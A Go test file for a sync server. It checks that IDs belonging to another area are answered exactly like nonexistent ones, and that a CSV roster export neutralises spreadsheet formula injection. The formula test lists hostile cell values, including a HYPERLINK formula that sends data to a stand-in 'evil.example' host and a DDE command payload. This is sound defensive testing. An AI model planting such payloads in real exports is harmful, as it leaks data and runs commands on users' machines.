package host

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"testing"

	"gridsync/server/internal/api"
	"gridsync/server/internal/identity"
	"gridsync/syncproto"
)

// An id of another area that somebody has come by, on paper or by guessing, is answered as
// one that there is not, to the byte; and nothing happens to what it names.
func TestIDsOfOtherAreasLeadNowhere(t *testing.T) {
	s := newSiege(t)
	beside, err := s.AddDevice(t.Context(), Device{Name: "邻村书记", Areas: []syncproto.AreaID{"g2"}, Role: identity.Secretary})
	if err != nil {
		t.Fatal(err)
	}
	var invite api.NewInvite
	s.ask(t, "/v1/invites", beside.Token, map[string]any{"area": "g2", "role": "volunteer", "uses": 3, "confirm": true}, &invite)
	s.ask(t, "/v1/enrol", "", newComer("guest").enrolling(invite.Code), nil)
	var waiting api.EnrolmentList
	if r := s.raw(t, get("/v1/areas/g2/enrolments?state=waiting", beside.Token)); json.Unmarshal(r.body, &waiting) != nil || len(waiting.Enrolments) != 1 {
		t.Fatalf("%d %s", r.status, r.body)
	}
	nothing := syncproto.RecordID{99}.String()
	settle := func(id string) string { return `{"ids":["` + id + `"],"state":"active"}` }
	standing := func() string {
		invites := s.raw(t, get("/v1/areas/g2/invites", beside.Token))
		enrolments := s.raw(t, get("/v1/areas/g2/enrolments", beside.Token))
		return fmt.Sprintf("%s %s %s", s.standing(t), invites.body, enrolments.body)
	}
	before := standing()
	for name, c := range map[string]struct {
		request func(id string) string
		id      string
	}{
		"an invitation": {func(id string) string { return post("/v1/invites/"+id+"/withdraw", s.secretary.Token, "{}") }, invite.ID.String()},
		"an enrolment":  {func(id string) string { return post("/v1/enrolments", s.secretary.Token, settle(id)) }, waiting.Enrolments[0].ID.String()},
		"a phone": {func(id string) string {
			return post("/v1/devices/"+id+"/status", s.secretary.Token, `{"status":"lost","reason":"x"}`)
		}, s.theirs.ID.String()},
		"a household":          {func(id string) string { return get("/v1/records/"+id+"/history", s.secretary.Token) }, s.household.String()},
		"who saw a household":  {func(id string) string { return get("/v1/records/"+id+"/seen", s.secretary.Token) }, s.household.String()},
		"a desk's session":     {func(id string) string { return post("/v1/sessions/end", s.secretary.Token, `{"id":"`+id+`"}`) }, s.theirs.ID.String()},
		"what an author wrote": {func(id string) string { return get("/v1/log?author="+id, s.secretary.Token) }, s.theirs.Authors[0].ID.String()},
		"an author's grants": {func(id string) string {
			return post("/v1/grants/end", s.secretary.Token, `{"author":"`+id+`","area":"g2"}`)
		}, s.theirs.Authors[0].ID.String()},
	} {
		there, not := s.raw(t, c.request(c.id)), s.raw(t, c.request(nothing))
		told := bytes.ReplaceAll(there.body, []byte(c.id), []byte(nothing))
		if there.status != not.status || !bytes.Equal(told, not.body) {
			t.Errorf("%s: what is there is told by %d %s, what is not by %d %s", name, there.status, there.body, not.status, not.body)
		}
		if after := standing(); after != before {
			t.Errorf("%s: before %s\nafter  %s", name, before, after)
		}
	}
}

// A roster is opened in a spreadsheet by those who may see it all: no name that somebody
// typed into a phone may be taken for a formula there.
func TestNoCellOfAFileIsAFormula(t *testing.T) {
	s := newSiege(t)
	names := []string{`=HYPERLINK("http://evil.example?"&B2)`, "+1+1", "-2+3", "@SUM(A1)", "\t=1", " =1+1", "＝1", "a\r\n=1", `=cmd|' /C calc'!A0`}
	for i, name := range names {
		n := uint64(i + 1)
		change := alter(visit(&s.secretary, n, "g1"), `"一号"`, string(syncproto.TextValue(name)))
		if _, answer := exchangeWith(t, s.Server, &s.secretary, change); answer.Verdicts[0].Verdict != syncproto.Applied {
			t.Fatalf("%q: %+v", name, answer.Verdicts)
		}
	}
	r := s.raw(t, get("/v1/areas/g1/roster.csv?kind=household", s.secretary.Token))
	reader := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(r.body, []byte("\ufeff"))))
	reader.FieldsPerRecord = -1
	rows, err := reader.ReadAll()
	if err != nil || r.status != http.StatusOK || len(rows) < len(names)+1 {
		t.Fatalf("%d %v %s", r.status, err, r.body)
	}
	for _, row := range rows {
		for _, cell := range row {
			if start := strings.TrimLeft(cell, " \u3000"); strings.IndexAny(start, "=+-@\t\r\n＝＋－＠") == 0 {
				t.Errorf("a formula: %q", cell)
			}
		}
	}
}
